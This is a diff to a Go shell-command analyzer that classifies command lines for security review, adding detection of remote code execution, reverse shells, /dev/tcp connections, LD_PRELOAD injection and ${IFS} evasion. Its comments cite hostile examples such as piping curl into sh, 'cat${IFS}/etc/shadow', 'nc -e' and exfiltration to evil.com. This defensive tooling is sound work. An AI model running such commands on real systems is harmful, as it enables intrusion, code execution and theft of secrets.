@@ -51,10 +51,27 @@ import (
 // arguments xargs and find -exec pass, which name what the producer lists:
 // both become Refs for the lister's roots, with Tree (so
 // `find / -name x | xargs rm -f` deletes "/" Tree and `cat $(ls)` reads
-// the working directory, Tree). A process substitution (<(...), >(...))
+// the working directory, Tree); inside the workspace, find's -name tests
+// narrow them to "ROOT/**/PATTERN" (Glob). A process substitution (<(...), >(...))
 // used as a file is a pipe, not a path: the commands inside carry their
-// own facts. A program name computed at run time, a line that does not
-// parse, or a limit reached gives an Unknown.
+// own facts. A program name computed at run time or given as a pattern,
+// code piped into a shell from a producer shellx cannot read, a line that
+// does not parse (or that the parser fails on), or a limit reached gives
+// an Unknown. ${IFS} between words splits them (cat${IFS}/etc/shadow).
+//
+// # Code run that the line does not hold (Facts.Execs)
+//
+// A shell or interpreter reading a pipe (curl URL | sh: Remote when a
+// network tool feeds it), a process or command substitution (bash
+// <(curl ...), eval "$(...)", source <(...)), a script or a tree a
+// network tool wrote earlier in the line (curl -o x.sh URL && sh x.sh,
+// git clone URL d && make -C d), a reverse shell (nc -e, socat EXEC:,
+// an interpreter payload that connects a socket and spawns a shell), and
+// packages installed from a host that is not the tool's registry (pip
+// --index-url, pip install git+URL, npm install URL) are Execs. What
+// tools run themselves is judged as their payload: go -exec/-toolexec,
+// git -c core.sshCommand and other program settings, vim -c '!cmd',
+// tmux send-keys, make -f /dev/stdin recipes, watch, flock, su -c.
 //
 // # Requests
 //
@@ -69,6 +86,8 @@ import (
 // are GET Requests to their registry (registry.npmjs.org, pypi.org,
 // proxy.golang.org, crates.io, the docker registry, deb.debian.org);
 // system package managers (apt, dnf, apk...) also write /usr, Tree.
+// A remote added earlier in the line (git remote add NAME URL) names its
+// host for git push NAME.
 // Data is set for bodies, uploads, standard input, computed URLs,
 // headers or names (dig $(cat x).evil.com), and Files names what a
 // request sends: @file arguments, files read by the commands feeding its
@@ -98,8 +117,12 @@ import (
 //     give only the inner command's Run, whose Via names the wrapper.
 //     docker run with --privileged, host namespaces or the docker socket
 //     gives an Unknown (the container reaches the whole host).
+//   - Commands run over ssh or inside a container (shellx Via "ssh HOST",
+//     "docker", "kubectl") give their Runs, Requests, Execs and Texts, not
+//     paths: those are another machine's.
 //   - Text a command writes to a file (a here-document or here-string fed
-//     to cat > f, tee f, dd of=f, crontab; echo/printf > f) is a Text with
+//     to cat > f, tee f, dd of=f, crontab; echo/printf > f, escapes
+//     decoded; the script of sed -i) is a Text with
 //     Source "content:" + the path written; other here-document bodies are
 //     Texts with Source "stdin". Interpreter string literals are Texts
 //     with their shellx Source ("python -c"), awk programs "awk".
@@ -158,9 +181,21 @@ type model struct {
 	// remotes are git remotes the line adds (git remote add NAME URL):
 	// name to host.
 	remotes map[string]string
+	// vars are variables the line assigns a computed value
+	// (F=$(mktemp)): what "$F" names is what that computes.
+	vars []assigned
+	// pendStdin are the requests of the current command's /dev/tcp
+	// redirections, whose Files are what the command reads.
+	pendStdin []int
 }
 
 type viaDir struct{ via, dir, old string }
+
+type assigned struct {
+	name string
+	val  shellx.Word
+	cmd  int // the command that assigns it
+}
 
 // pendingFiles is a request whose arguments hold command substitutions:
 // its Files are the reads of the commands inside them, which are listed
@@ -272,11 +307,20 @@ func (m *model) command(i int) {
 		outer := m.f
 		var tmp Facts
 		m.f = &tmp
+		nVia, nPend := len(m.reqVia), len(m.pend)
 		x := &call{m: m, i: i, c: c, cwd: "/", via: c.Via, name: "redirect"}
 		if len(c.Args) > 0 {
 			m.dispatch(x, c.Args)
 		}
 		m.f = outer
+		// Requests move to the outer facts: so do their indices.
+		base := len(m.f.Requests)
+		for k := nVia; k < len(m.reqVia); k++ {
+			m.reqVia[k].req += base
+		}
+		for k := nPend; k < len(m.pend); k++ {
+			m.pend[k].req += base
+		}
 		m.f.Runs = append(m.f.Runs, tmp.Runs...)
 		m.f.Requests = append(m.f.Requests, tmp.Requests...)
 		m.f.Execs = append(m.f.Execs, tmp.Execs...)
@@ -289,14 +333,26 @@ func (m *model) command(i int) {
 	if len(c.Args) > 0 {
 		m.dispatch(x, c.Args)
 	}
+	x.assigns()
+	if len(c.Args) == 0 || isDecl(c.Args[0].Text) {
+		for _, a := range c.Assigns {
+			if a.Value.Dynamic {
+				m.vars = append(m.vars, assigned{name: a.Name, val: a.Value, cmd: i})
+			}
+		}
+	}
+	for _, k := range m.pendStdin {
+		x.fromStdin(k)
+	}
+	m.pendStdin = m.pendStdin[:0]
 	x.redirectTexts()
 	if x.chdir != nil {
-		d := m.dir(c.Via)
 		if strings.HasPrefix(lastVia(c.Via), "function ") {
 			// The body runs wherever the function is called:
 			// what follows the call is in an unknown directory.
 			m.dir("").dir = ""
 		}
+		d := m.dir(c.Via) // (after any append m.dir does above)
 		d.old, d.dir = d.dir, *x.chdir
 	}
 }
@@ -360,6 +416,12 @@ func (m *model) dispatch(x *call, argv []shellx.Word) {
 	argv = splitIFS(argv)
 	for n := 0; len(argv) > 0 && n < 16; n++ {
 		w := argv[0]
+		if w.Glob && !w.Dynamic {
+			x.name, x.argv, x.args = progName(w.Text), argv, argv[1:]
+			x.run()
+			m.unknown("the program is a pattern the shell expands at run time: " + w.Text)
+			return
+		}
 		if w.Dynamic {
 			x.name, x.argv, x.args = "", argv, argv[1:]
 			x.run()
@@ -486,6 +548,9 @@ var kindVerb = [...]string{"reads", "writes", "deletes"}
 // abs resolves a path as written against the working directory; ok is
 // false when it is relative to an unknown directory.
 func (x *call) abs(t string) (string, bool) {
+	if t == inputWord {
+		return "", false // what xargs or find -exec pass: see ref
+	}
 	return resolveIn(x.m.s, x.cwd, t)
 }
 
@@ -565,7 +630,11 @@ func (x *call) add(k int, r Ref) {
 
 // dynamicRef judges a path computed at run time (see CommandFacts).
 func (x *call) dynamicRef(k int, w shellx.Word, tree bool) {
-	if refs, ok := x.m.substRefs(x.i, w.Text); ok {
+	refs, ok := x.m.substRefs(x.i, w.Text)
+	if !ok {
+		refs, ok = x.m.varRefs(w.Text)
+	}
+	if ok {
 		for _, r := range refs {
 			r.By = x.name
 			x.add(k, r)
@@ -624,6 +693,59 @@ next:
 	return list
 }
 
+func isDecl(t string) bool {
+	switch t {
+	case "export", "local", "declare", "typeset", "readonly":
+		return true
+	}
+	return false
+}
+
+// varRefs returns what a word that is exactly "$NAME" or "${NAME}" names
+// when the line assigned NAME a command substitution whose output is
+// known (see substRefs).
+func (m *model) varRefs(t string) ([]Ref, bool) {
+	name := strings.TrimPrefix(t, "$")
+	if name == t {
+		return nil, false
+	}
+	if strings.HasPrefix(name, "{") && strings.HasSuffix(name, "}") {
+		name = name[1 : len(name)-1]
+	}
+	for k := len(m.vars) - 1; k >= 0; k-- {
+		if v := m.vars[k]; v.name == name {
+			return m.substRefs(v.cmd, v.val.Text)
+		}
+	}
+	return nil, false
+}
+
+// assigns judges the variables a command sets that make programs load or
+// run code: LD_PRELOAD and LD_AUDIT load a library into every program
+// (Unknown: what it does cannot be known), BASH_ENV and ENV name a script
+// shells run, and the *_COMMAND, pager, editor and askpass variables
+// hold a command line.
+func (x *call) assigns() {
+	for _, a := range x.c.Assigns {
+		v := a.Value
+		switch a.Name {
+		case "LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES":
+			for _, p := range strings.FieldsFunc(v.Text, func(r rune) bool { return r == ':' || r == ' ' }) {
+				x.ref(kRead, shellx.Word{Text: p, Dynamic: v.Dynamic}, false)
+			}
+			x.m.unknown(a.Name + " loads " + clipText(v.Text, 80) + " into the programs the command runs")
+		case "BASH_ENV", "ENV":
+			x.ref(kRead, v, false)
+			x.runsFile(v.Text)
+		case "GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_PAGER", "PAGER", "MANPAGER", "EDITOR", "VISUAL", "GIT_EDITOR",
+			"GIT_ASKPASS", "SSH_ASKPASS", "SUDO_ASKPASS", "PROMPT_COMMAND", "GIT_PROXY_COMMAND", "LESSOPEN", "LESSCLOSE":
+			if v.Text != "" {
+				x.payload(v, a.Name+"=")
+			}
+		}
+	}
+}
+
 // redirectRefs adds the paths the command's redirections read and
 // write (before the program's own facts, so that a request's Files
 // include what is redirected into it).
@@ -638,6 +760,12 @@ func (x *call) redirectRefs() {
 			if isFd(t) {
 				continue
 			}
+		}
+		if host, ok := devNet(t); ok {
+			// bash's /dev/tcp/HOST/PORT: a connection, carrying what
+			// the command reads and writes.
+			x.netRedirect(host, r.Target)
+			continue
 		}
 		switch {
 		case r.Write:
@@ -692,6 +820,32 @@ func echoText(name string, args []shellx.Word) string {
 		parts = append(parts, unescape(w.Text))
 	}
 	return strings.Join(parts, " ")
+}
+
+// devNet returns the host of bash's /dev/tcp/HOST/PORT or
+// /dev/udp/HOST/PORT.
+func devNet(t string) (string, bool) {
+	rest, ok := strings.CutPrefix(t, "/dev/tcp/")
+	if !ok {
+		rest, ok = strings.CutPrefix(t, "/dev/udp/")
+	}
+	if !ok {
+		return "", false
+	}
+	host, _, _ := strings.Cut(rest, "/")
+	return hostOf(host), true
+}
+
+// netRedirect adds the connection a /dev/tcp redirection opens: its
+// Files are what the command reads; a shell whose input or output is the
+// connection is a remote shell.
+func (x *call) netRedirect(host string, w shellx.Word) {
+	k := x.request(Request{Host: host, Data: true})
+	x.computed(k, w)
+	x.m.pendStdin = append(x.m.pendStdin, k)
+	if len(x.c.Args) > 0 && !x.c.Args[0].Dynamic && shells[progName(x.c.Args[0].Text)] {
+		x.m.f.Execs = append(x.m.f.Execs, Exec{Runner: progName(x.c.Args[0].Text), From: "/dev/tcp", Remote: true, Line: x.c.Line})
+	}
 }
 
 func isFd(t string) bool {
